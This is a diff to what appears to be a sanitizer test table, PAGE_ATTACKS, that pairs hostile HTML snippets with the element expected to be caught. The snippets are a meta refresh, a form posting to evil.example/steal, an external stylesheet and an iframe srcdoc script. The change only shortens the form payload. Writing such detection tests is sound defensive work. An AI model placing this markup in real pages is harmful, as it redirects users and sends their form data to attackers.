@@ -37,8 +37,8 @@ PAGE_ATTACKS = {
                "attribute srcset="),
     "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">',
                      "<meta> element"),
-    "form-posting-elsewhere": ('<form action="https://evil.example/steal"><input name="q">'
-                               "</form>", "<form> element"),
+    "form-posting-elsewhere": ('<form action="https://evil.example/steal"><input></form>',
+                               "<form> element"),
     "external-stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">',
                             "<link> element"),
     "iframe-srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
